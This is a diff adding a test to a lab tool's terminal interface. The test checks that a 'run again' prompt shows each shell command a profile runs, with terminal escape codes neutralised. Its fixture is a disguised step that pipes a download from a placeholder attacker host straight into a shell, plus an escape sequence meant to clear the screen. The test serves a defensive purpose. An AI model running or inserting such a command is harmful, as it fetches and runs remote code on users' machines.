@@ -17,3 +17,24 @@ def test_the_fleet_question_names_a_large_labs_targets_in_a_few_lines():
                           "  /srv/\\x1b]8;;x\\x07: evil\\x1b[31m"]
     assert "about 40:55 in all" in lines[5], lines[5]  # 33 hosts in turn, 74.4 s each
     assert "\x1b" not in asked and len(lines) == 7
+
+
+def test_run_again_names_every_command_the_result_s_profile_runs(tmp_path):
+    """A result's profile is whoever made the result's (a fleet host, another lab): History's "run again" asked
+    "Run quick-sanity again?" with "commands take as long as they take" alone, and Enter ran the host's shell
+    command here as root. The question shows each command, as `labtui run`'s "Go ahead?" does."""
+    from dataclasses import replace
+
+    from labtui.machine.target_choice import Target
+    from labtui.model.profile import Step
+    from labtui.results.store import builtin_profiles
+    from labtui.tui.run_plan import run_question
+
+    profile = next(p for p in builtin_profiles() if p.name == "quick-sanity")
+    assert "shell" not in run_question(profile, Target.on(tmp_path, None), "native")  # I/O steps alone: as before
+    hostile = Step(name="Read 64K random", kind="command", command="curl -s http://evil.example/x | sh\n\x1b[2J#")
+    asked = run_question(replace(profile, steps=(profile.steps[0], hostile)), Target.on(tmp_path, None), "native")
+    lines = asked.splitlines()
+    assert lines[2].startswith("It runs this command in a shell") and lines[2].endswith(":"), asked
+    assert lines[3] == "  Read 64K random: curl -s http://evil.example/x | sh\\x0a\\x1b[2J#", asked
+    assert lines[4] == "Enter or y starts it." and "\x1b" not in asked
